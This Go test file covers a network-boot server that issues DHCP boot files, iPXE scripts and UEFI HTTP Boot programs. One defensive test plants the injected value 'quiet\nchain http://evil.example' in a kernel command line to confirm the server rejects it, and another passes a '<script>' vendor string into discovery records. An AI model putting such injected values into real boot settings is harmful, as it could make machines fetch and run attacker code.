package netboot

import (
	"context"
	"encoding/binary"
	"encoding/json"
	"errors"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/better-compute/bcd/app"
	"github.com/better-compute/bcd/netboot/internal/bootfile"
	"github.com/better-compute/bcd/netboot/internal/dhcp"
	"github.com/better-compute/bcd/netboot/internal/httpboot"
)

const nodeMAC = app.MAC("00:00:5e:00:53:01")

// local runs a Server on loopback, with no subnet.
func local(t *testing.T, port *fakePort) (*Server, *events, string) {
	t.Helper()
	e := newEvents()
	s, err := New(Config{Port: port, Store: newMemStore(), HTTP: "127.0.0.1:0", Loaders: loaders, Log: discard(), Record: e.record})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	ended := make(chan error, 1)
	go func() { ended <- s.Run(ctx) }()
	t.Cleanup(func() {
		cancel()
		if err := <-ended; err != nil {
			t.Error(err)
		}
	})
	<-s.Ready()
	return s, e, "http://" + s.HTTPAddr().String()
}

func get(t *testing.T, url string) (int, string) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = resp.Body.Close() }()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(b)
}

func node(k Kind) *fakePort {
	return &fakePort{targets: map[app.MAC]Target{nodeMAC: {
		MachineID: "m-1", Name: "node1", Kind: k, Kernel: "/boot/kernel", Initrds: []string{"/boot/k3y/bootdata.cpio", "/boot/initrd"}, Cmdline: "quiet", ISO: "/iso/k3y/image.iso",
	}}}
}

func TestScriptForEachState(t *testing.T) {
	forms := []string{"?mac=00-00-5e-00-53-01", "?mac=00:00:5e:00:53:01", "?mac=00-00-5E-00-53-01&uuid=", "?mac=00-00-5e-00-53-99&mac=00-00-5e-00-53-01"}
	for k, want := range map[Kind]string{KindRamdisk: "kernel --name kernel ", KindDisk: "sanboot ", KindNone: "sanboot ", KindISO: "sanboot --no-describe --drive 0xe0 "} {
		_, e, base := local(t, node(k))
		for _, f := range forms {
			status, body := get(t, base+"/boot/script"+f)
			if status != 200 || !strings.HasPrefix(body, "#!ipxe\n") || !strings.Contains(body, want) {
				t.Errorf("%s %s: %d\n%s", k, f, status, body)
			}
			if k == KindRamdisk && !strings.Contains(body, base+"/boot/kernel ") {
				t.Errorf("the kernel's address is not the one that the client reached us at:\n%s", body)
			}
		}
		if _, body := get(t, base+"/boot/script"+forms[0]); k == KindISO && !strings.Contains(body, " "+base+"/iso/k3y/image.iso ||") {
			t.Errorf("the image's address is not the one that the client reached us at:\n%s", body)
		}
		if x := e.wait(t, "ipxe.script", patience, kind("ipxe.script")); x.MachineID != "m-1" {
			t.Errorf("recorded without the machine: %+v", x)
		}
	}
}

// Case 65: once the job is done the same machine gets no installer; an unknown one never does.
func TestUnknownAndFinishedMachinesGoToTheirDisk(t *testing.T) {
	port := node(KindRamdisk)
	_, _, base := local(t, port)
	for _, q := range []string{"", "?mac=", "?mac=nonsense", "?mac=00-00-5e-00-53-99", "?uuid=01020304-0506-0708-090a-0b0c0d0e0f10"} {
		if status, body := get(t, base+"/boot/script"+q); status != 200 || !strings.Contains(body, "sanboot") {
			t.Errorf("%q: %d\n%s", q, status, body)
		}
	}
	port.mu.Lock()
	done := port.targets[nodeMAC]
	done.Kind = KindDisk
	port.targets[nodeMAC] = done
	port.mu.Unlock()
	if _, body := get(t, base+"/boot/script?mac=00-00-5e-00-53-01"); !strings.Contains(body, "sanboot") || strings.Contains(body, "kernel") {
		t.Errorf("after the job:\n%s", body)
	}
}

func TestFailingPortMakesMachinesWait(t *testing.T) {
	port := node(KindRamdisk)
	port.fail = errors.New("database is locked")
	s, _, base := local(t, port)
	status, body := get(t, base+"/boot/script?mac=00-00-5e-00-53-01")
	if status != 200 || !strings.Contains(body, "chain --replace --autofree "+base+"/boot/script?mac=00-00-5e-00-53-01") || strings.Contains(body, "database") {
		t.Errorf("%d\n%s", status, body)
	}
	d := dhcpClients{s}.Decide(t.Context(), bootfile.Facts{MAC: nodeMAC, VendorClass: "PXEClient"}, app.Subnet{}, netip.MustParseAddr("192.0.2.1"))
	if d.File == "" {
		t.Error("firmware was turned away while the port fails")
	}
}

func TestFieldsThatBreakTheScriptMakeItWait(t *testing.T) {
	port := node(KindRamdisk)
	bad := port.targets[nodeMAC]
	bad.Cmdline = "quiet\nchain http://evil.example"
	port.targets[nodeMAC] = bad
	_, e, base := local(t, port)
	if _, body := get(t, base+"/boot/script?mac=00-00-5e-00-53-01"); strings.Contains(body, "evil") {
		t.Errorf("injected:\n%s", body)
	}
	if x := e.wait(t, "ipxe.script", patience, kind("ipxe.script")); x.Level != "error" || !strings.Contains(string(x.Data), "control character") {
		t.Errorf("recorded %+v %s", x, x.Data)
	}
}

// Every file name that DHCP can hand out is served, over TFTP and HTTP.
func TestEveryBootFileIsServed(t *testing.T) {
	s, _, base := local(t, node(KindRamdisk))
	_, port, err := net.SplitHostPort(s.HTTPAddr().String())
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]bool{}
	for arch := range bootfile.Arch(0x30) {
		for _, class := range []string{"", "PXEClient", "HTTPClient", "PXEClient:Arch:00000:UNDI:002001"} {
			for _, user := range []string{"", "iPXE"} {
				for _, encap := range []string{"", "\x18\x01\x01"} {
					d := dhcpClients{s}.Decide(t.Context(), bootfile.Facts{
						MAC: nodeMAC, Archs: []bootfile.Arch{arch}, VendorClass: class, UserClass: []byte(user), Encap: []byte(encap),
					}, app.Subnet{}, netip.MustParseAddr("127.0.0.1"))
					if d.File != "" {
						files[d.File] = true
					}
				}
			}
		}
	}
	if len(files) != 4 { // two loaders by TFTP, one by HTTP, the script
		t.Errorf("handed out: %v", files)
	}
	for f := range files {
		if strings.HasPrefix(f, "http://127.0.0.1:"+port+"/") {
			if status, body := get(t, f); status != 200 || body == "" {
				t.Errorf("GET %s: %d", f, status)
			}
			continue
		}
		if b, err := fs.ReadFile(withAutoexec{loaders}, f); err != nil || len(b) == 0 {
			t.Errorf("TFTP %s: %v", f, err)
		}
		if status, _ := get(t, base+"/ipxe/"+f); status != 200 {
			t.Errorf("HTTP %s: %d", f, status)
		}
	}
	for _, name := range append(Loaders(), autoexec) {
		if _, err := fs.ReadFile(withAutoexec{loaders}, name); err != nil {
			t.Error(err)
		}
	}
}

// What UEFI HTTP Boot is told to load is served: the machine's own program, or the one that sends an idle machine on to its
// disk. No address has a query (Dell's firmware takes it only as far as that), and no record of the exchange holds the key.
func TestHTTPBootProgramsAreServed(t *testing.T) {
	port := node(KindRamdisk)
	port.image = "MZ the machine's own"
	mine := port.targets[nodeMAC]
	mine.Program = BootPath("k3y", ProgramFile)
	port.targets[nodeMAC] = mine
	s, e, base := local(t, port)
	facts := bootfile.Facts{MAC: nodeMAC, Archs: []bootfile.Arch{bootfile.ArchX64HTTP}, VendorClass: "HTTPClient:Arch:00016:UNDI:003001"}
	decide := func() bootfile.Decision {
		return dhcpClients{s}.Decide(t.Context(), facts, app.Subnet{}, netip.MustParseAddr("127.0.0.1"))
	}
	d := decide()
	if status, body := get(t, d.File); d.File != base+"/boot/k3y/boot.efi" || status != 200 || body != port.image {
		t.Errorf("%q: %d %q", d.File, status, body)
	}
	s.recordDHCP(dhcp.Exchange{Kind: "dhcp.offer", MAC: nodeMAC, Stage: d.Stage, File: d.File})
	if x := e.wait(t, "the offer", patience, kind("dhcp.offer")); strings.Contains(string(x.Data), "k3y") || !strings.Contains(string(x.Data), base+"/boot/KEY/boot.efi") {
		t.Errorf("recorded %s", x.Data)
	}
	port.mu.Lock()
	mine.Kind = KindDisk
	port.targets[nodeMAC] = mine
	port.mu.Unlock()
	d = decide()
	if status, body := get(t, d.File); d.File != base+"/boot/"+ExitFile || status != 200 || !strings.HasPrefix(body, "MZ") {
		t.Errorf("idle: %q: %d", d.File, status)
	}
	port.mu.Lock()
	port.fail = errors.New("database is locked")
	port.mu.Unlock()
	if d = decide(); d.File != base+"/ipxe/snponly.efi" {
		t.Errorf("while the site cannot tell: %q", d.File)
	}
}

// Case 1, with the loader that is really served: an x64 UEFI program.
func TestHTTPBootLoaderIsForItsMachine(t *testing.T) {
	if _, err := os.Stat("/usr/lib/ipxe/snponly.efi"); err != nil {
		t.Skipf("left out: %v", err)
	}
	s, err := New(Config{Port: node(KindRamdisk), Store: newMemStore(), HTTP: "127.0.0.1:0", Loaders: os.DirFS("/usr/lib/ipxe"), Log: discard(), Record: func(app.Event) {}})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	ended := make(chan error, 1)
	go func() { ended <- s.Run(ctx) }()
	t.Cleanup(func() { cancel(); <-ended })
	<-s.Ready()
	d := dhcpClients{s}.Decide(t.Context(), bootfile.Facts{MAC: nodeMAC, Archs: []bootfile.Arch{bootfile.ArchX64HTTP}, VendorClass: "HTTPClient:Arch:00016"}, app.Subnet{}, netip.MustParseAddr("127.0.0.1"))
	status, body := get(t, d.File)
	if status != 200 || len(body) < 0x40 || body[:2] != "MZ" {
		t.Fatalf("%s: %d, %d bytes", d.File, status, len(body))
	}
	pe := binary.LittleEndian.Uint32([]byte(body[0x3c:]))
	if int(pe)+6 > len(body) || body[pe:pe+4] != "PE\x00\x00" || binary.LittleEndian.Uint16([]byte(body[pe+4:])) != 0x8664 {
		t.Error("the loader is no x64 program")
	}
}

func TestLoaderIsChainedOnce(t *testing.T) {
	s, _, _ := local(t, node(KindRamdisk))
	weak := bootfile.Facts{MAC: nodeMAC, UserClass: []byte("iPXE"), Encap: []byte("\x18\x01\x01"), VendorClass: "PXEClient:Arch:00000"}
	decide := func() bootfile.Decision {
		return dhcpClients{s}.Decide(t.Context(), weak, app.Subnet{}, netip.MustParseAddr("192.0.2.1"))
	}
	if d := decide(); d.File != bootfile.LoaderBIOS {
		t.Fatalf("first: %+v", d)
	}
	if d := decide(); d.File != bootfile.LoaderBIOS {
		t.Fatalf("its REQUEST: %+v", d)
	}
	s.noteLoader(nodeMAC, bootfile.LoaderBIOS)
	if d := decide(); !strings.Contains(d.File, "/boot/script") {
		t.Errorf("after the loader was fetched: %+v", d)
	}
}

func TestDiscoveriesAreReported(t *testing.T) {
	port := node(KindDisk)
	s, e, _ := local(t, port)
	s.mu.Lock()
	s.subnets = []app.Subnet{labSubnet("x", "off")}
	s.mu.Unlock()
	s.clients.machine(nodeMAC, "m-1")
	for _, x := range []dhcp.Exchange{
		{Kind: "dhcp.heard", MAC: "00:00:5e:00:53:09", Subnet: "net-lab", Stage: bootfile.StageFirmware, Arch: "x64", Vendor: "<script>"},
		{Kind: "dhcp.offer", MAC: nodeMAC, Subnet: "net-lab", Stage: bootfile.StageFirmware},               // ours
		{Kind: "dhcp.offer", MAC: "00:00:5e:00:53:0a", Subnet: "net-lab", Stage: bootfile.StageOS},         // no netboot
		{Kind: "dhcp.offer", MAC: "00:00:5e:00:53:0b", Subnet: "net-other", Stage: bootfile.StageFirmware}, // not to be discovered
		{Kind: "dhcp.proxy", Request: "DISCOVER", MAC: "00:00:5e:00:53:0d", Subnet: "net-lab", Stage: bootfile.StageIPXE, Arch: "x64"},
		{Kind: "dhcp.proxy", Request: "REQUEST", MAC: "00:00:5e:00:53:0d", Subnet: "net-lab", Stage: bootfile.StageIPXE, Arch: "x64"}, // port 4011 after it
		{Kind: "dhcp.ack", MAC: "00:00:5e:00:53:0c", Subnet: "net-lab", Stage: bootfile.StageFirmware},                                // counted by its offer
	} {
		s.recordDHCP(x)
	}
	if len(port.found) != 2 || port.found[1].MAC != "00:00:5e:00:53:0d" || port.found[0].MAC != "00:00:5e:00:53:09" || port.found[0].Arch != "x64" {
		t.Errorf("discovered %+v", port.found)
	}
	if x := e.wait(t, "dhcp.offer", patience, kind("dhcp.offer")); x.MachineID != "m-1" || !json.Valid(x.Data) {
		t.Errorf("recorded %+v", x)
	}
}

func TestNetbootingEndsWithTheOperatingSystem(t *testing.T) {
	port := node(KindDisk)
	s, _, _ := local(t, port)
	pxe := bootfile.Facts{MAC: nodeMAC, VendorClass: "PXEClient"}
	ours := netip.MustParseAddr("192.0.2.1")
	if s.booting(t.Context(), nodeMAC) {
		t.Error("booting before anything was heard of it")
	}
	dhcpClients{s}.Decide(t.Context(), pxe, app.Subnet{}, ours)
	if !s.booting(t.Context(), nodeMAC) {
		t.Error("not booting after its firmware was given a boot file")
	}
	dhcpClients{s}.Decide(t.Context(), bootfile.Facts{MAC: nodeMAC, VendorClass: "udhcp"}, app.Subnet{}, ours)
	if s.booting(t.Context(), nodeMAC) {
		t.Error("still booting when its operating system asks for an address")
	}
}

func TestTrackerIsBounded(t *testing.T) {
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	tr := newTracker(func() time.Time { return now })
	for i := range 3 * maxTracked {
		m, err := app.MACFromBytes([]byte{2, 0, 0, byte(i >> 16), byte(i >> 8), byte(i)})
		if err != nil {
			t.Fatal(err)
		}
		tr.booting(m, true)
	}
	if len(tr.all) > maxTracked {
		t.Errorf("%d clients are remembered", len(tr.all))
	}
}

func TestScriptWithoutMACFindsTheClientByItsLease(t *testing.T) {
	s, _, _ := local(t, node(KindRamdisk))
	body := s.script(t.Context(), httpboot.ScriptRequest{Remote: netip.MustParseAddr("192.0.2.77"), Base: "http://192.0.2.1:8080"})
	if !strings.Contains(body, "sanboot") {
		t.Error("an address without a lease was taken for a machine")
	}
}

func TestStrangersCannotFloodTheLog(t *testing.T) {
	var l limiter
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	passed := func(n int) (out int) {
		for range n {
			if l.allow(now) {
				out++
			}
		}
		return out
	}
	if n := passed(10000); n != strangersBurst {
		t.Errorf("%d passed at once", n)
	}
	now = now.Add(time.Second)
	if n := passed(10000); n != strangersPerSec {
		t.Errorf("%d passed a second later", n)
	}
}

func TestConfigIsChecked(t *testing.T) {
	if _, err := New(Config{}); err == nil {
		t.Error("an empty Config was accepted")
	}
}
